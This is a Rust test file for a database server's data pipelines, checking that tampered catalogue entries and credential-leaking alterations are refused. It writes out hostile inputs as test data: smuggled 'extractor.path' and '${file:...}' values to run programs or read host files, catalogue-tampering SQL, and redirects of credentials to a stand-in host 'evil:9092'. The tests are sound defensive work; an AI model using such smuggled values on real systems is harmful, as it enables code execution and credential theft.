//! What the catalogue keeps is not trusted: clients may write it where the store's user may.

use std::os::unix::fs::PermissionsExt as _;

use mysql::prelude::Queryable as _;
use nix::sys::signal::Signal;

use super::server::{Bench, Server, number, refused, wait_until};

const ON: &str = "SET GLOBAL experimental_features_config = 'kafka_connect_enabled=true'";
const CREATE: &str = "CREATE INFERRED PIPELINE p AS LOAD DATA CONNECTOR 't' CONFIG '{\"connector.class\": \"test\", \
                      \"test.splits\": 1, \"test.rows\": 7}' CREDENTIALS '{\"test.password\": \"canary\"}' FORMAT AVRO";

/// Puts an entry into the stored CONFIG.
fn smuggle(entry: &str, state: &str) -> String {
    format!(
        "UPDATE s2x_pipelines SET credentials = REPLACE(credentials, '\"test.rows\":7', \
         '\"test.rows\":7,{entry}'), state = '{state}'"
    )
}

fn refuses(server: &Server, sql: &str) {
    let (code, why) = refused(server.client().query_drop(sql));
    assert_eq!(code, 1105, "{sql}: {why}");
    assert!(why.contains("pipeline p: ") && why.contains("--allow-host-access"), "{sql}: {why}");
}

/// `write`: how a hostile statement comes into the catalogue.
fn confined(bench: &Bench, write: &dyn Fn(&Server, &str)) {
    let program = bench.folder.path().join("program");
    let ran = bench.folder.path().join("ran");
    std::fs::write(&program, format!("#!/bin/sh\ntouch {}\n", ran.display())).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let server = bench.serve(&[]);
    let mut client = server.client();
    client.query_drop(ON).unwrap();
    client.query_drop(CREATE).unwrap();
    // A secret in a file of its own is no reason to refuse it.
    client.query_drop("START PIPELINE p").unwrap();
    wait_until("all rows", || number(&mut client, "SELECT COUNT(*) FROM p") == 7);
    client.query_drop("STOP PIPELINE p").unwrap();
    assert_eq!(server.end(Signal::SIGTERM), 0);

    let path = program.display().to_string();
    let server = bench.serve_without_extractor(&[]);
    for entry in [
        format!("\"extractor.path\":\"{path}\""),
        format!("\"test.topic\":\"${{file:{path}}}\""),
        "\"test.topic\":\"${env:HOME}\"".to_owned(),
    ] {
        write(&server, &smuggle(&entry, "Stopped"));
        refuses(&server, "START PIPELINE p");
        refuses(&server, "TEST PIPELINE p");
        refuses(&server, "ALTER PIPELINE p SET CREDENTIALS '{}'");
        refuses(&server, "ALTER PIPELINE p SET OFFSETS EARLIEST");
        let back =
            format!("UPDATE s2x_pipelines SET credentials = REPLACE(credentials, ',{entry}', '')");
        write(&server, &back);
    }
    // The program needs no client: the next server starts what is called Running.
    write(&server, &smuggle(&format!("\"extractor.path\":\"{path}\""), "Running"));
    assert_eq!(server.end(Signal::SIGKILL), -1);
    let (server, log) = bench.serve_heard(false);
    wait_until("a word about it", || {
        let said = std::fs::read_to_string(&log).unwrap();
        said.contains("pipeline p was running before: pipeline p: extractor.path names")
    });
    // Neither does another file pass for the pipeline's own.
    let other = "UPDATE s2x_pipelines SET state = 'Stopped', credentials = \
                 '{\"version\":1,\"source\":\"CONNECTOR\",\"target\":\"t\",\"is_inferred\":true,\"config\":\
                 {\"connector.class\":\"test\",\"test.topic\":\"${file:/FILE:1}\"},\"credentials\":{},\
                 \"secrets_file\":\"/FILE\",\"clauses\":{}}'";
    let named = format!("etc/{}.properties", "0a".repeat(16));
    for file in ["etc/hostname", &named] {
        write(&server, &other.replace("FILE", file));
        refuses(&server, "START PIPELINE p");
    }
    assert!(!ran.exists(), "the program was run");
}

#[test]
fn a_stored_definition_is_confined_in_sqlite() {
    let bench = Bench::sqlite();
    confined(&bench, &|_, sql| assert!(bench.sql(sql), "{sql}"));
}

#[test]
fn a_stored_definition_is_confined_in_mariadb() {
    let Some(bench) = Bench::mariadb("a_stored_definition_is_confined_in_mariadb") else { return };
    confined(&bench, &|server, sql| server.client().query_drop(sql).unwrap());
}

#[test]
fn clients_do_not_write_the_catalogue_of_an_sqlite_store() {
    let bench = Bench::sqlite();
    let server = bench.serve(&[]);
    let mut client = server.client();
    client.query_drop(ON).unwrap();
    client.query_drop(CREATE).unwrap();
    client.query_drop("CREATE TABLE mine (a TEXT)").unwrap();
    for sql in [
        &smuggle("\"a\":\"b\"", "Running"),
        "DELETE FROM S2X_Pipelines",
        "INSERT INTO s2x_variables SELECT * FROM s2x_variables",
        "REPLACE INTO s2x_variables SELECT * FROM s2x_variables",
        "WITH x AS (SELECT 1) UPDATE main.s2x_pipelines SET state = 'Running'",
        "DROP TABLE s2x_pipelines",
        "ALTER TABLE s2x_pipelines RENAME TO mine2",
        "CREATE TRIGGER t AFTER INSERT ON mine BEGIN UPDATE s2x_pipelines SET state = 'Running'; END",
        "CREATE TRIGGER t BEFORE UPDATE ON s2x_pipelines BEGIN SELECT RAISE(IGNORE); END",
    ] {
        let answer = client.query_drop(sql);
        assert!(answer.is_err(), "{sql}");
        let (code, why) = refused(answer);
        assert_eq!(code, 1227, "{sql}: {why}");
    }
    client.query_drop("PRAGMA writable_schema = ON").unwrap();
    let schema = "UPDATE sqlite_master SET sql = 'x' WHERE name = 's2x_pipelines'";
    assert!(client.query_drop(schema).is_err());
    // What is no table of the catalogue is the client's.
    client.query_drop("INSERT INTO mine SELECT name FROM s2x_pipelines").unwrap();
    client.query_drop("UPDATE mine SET a = a || 'x'").unwrap();
    client.query_drop("VACUUM").unwrap();
    client.query_drop("DROP TABLE mine").unwrap();
    client.query_drop("START PIPELINE p").unwrap();
    drop(server);
    let server = bench.serve(&["--allow-host-access"]);
    server.client().query_drop("UPDATE s2x_variables SET name = name").unwrap();
}

#[test]
fn kept_secrets_are_sent_nowhere_else() {
    let bench = Bench::sqlite();
    let server = bench.serve(&[]);
    let mut client = server.client();
    client.query_drop(ON).unwrap();
    client.query_drop(CREATE).unwrap();
    client
        .query_drop(CREATE.replace("PIPELINE p", "PIPELINE q").replace("\"canary\"", "\"\""))
        .unwrap();
    // What repeats a credential is a secret, too.
    let in_config = CREATE.replace("PIPELINE p", "PIPELINE r");
    client.query_drop(in_config.replace(": 7}", ": 7, \"test.topic\": \"canary\"}")).unwrap();
    let whole = "CONFIG '{\"connector.class\": \"test\", \"test.splits\": 1, \"test.rows\": 7}'";
    let anew = "CREDENTIALS '{\"test.password\": \"other\"}'";
    let refused_ones = [
        "p SET CONFIG ::bootstrap.servers = 'evil:9092'".to_owned(),
        format!("p SET {whole}"),
        "p SET CREDENTIALS ::bootstrap.servers = 'evil:9092'".to_owned(),
        "p SET CREDENTIALS ::test.user = 'me' SET CONFIG ::bootstrap.servers = 'evil:9092'"
            .to_owned(),
        "r SET CONFIG ::bootstrap.servers = 'evil:9092'".to_owned(),
        format!("r SET {anew}"),
    ];
    for change in refused_ones {
        let (code, why) = refused(client.query_drop(format!("ALTER PIPELINE {change}")));
        assert_eq!(code, 1105, "{change}: {why}");
        assert!(why.contains("must not be sent elsewhere"), "{change}: {why}");
    }
    for change in [
        format!("p SET CONFIG ::test.topic = 'a' SET {anew}"),
        format!("p SET {anew}"),
        "p SET BATCH_INTERVAL 50".to_owned(),
        format!("r SET {whole} SET {anew}"),
    ] {
        client.query_drop(format!("ALTER PIPELINE {change}")).expect(&change);
    }
    client.query_drop("START PIPELINE p").unwrap();
    drop(server);
    let server = bench.serve(&["--allow-host-access"]);
    server.client().query_drop("ALTER PIPELINE q SET CONFIG ::test.topic = 'a'").unwrap();
}
